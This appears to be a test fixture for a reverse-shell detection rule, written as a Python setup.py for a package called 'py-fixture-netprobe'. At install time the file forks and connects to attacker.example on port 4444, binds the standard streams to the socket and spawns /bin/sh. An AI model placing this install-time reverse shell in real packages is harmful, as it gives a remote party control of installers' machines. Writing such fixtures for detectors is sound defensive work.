import os
import pty
import socket

from setuptools import setup


def _session():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(('attacker.example', 4444))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    # ruleid: code/reverse-shell
    pty.spawn('/bin/sh')


if os.fork() == 0:
    _session()

setup(name='py-fixture-netprobe', version='0.0.3', packages=['netprobe'])
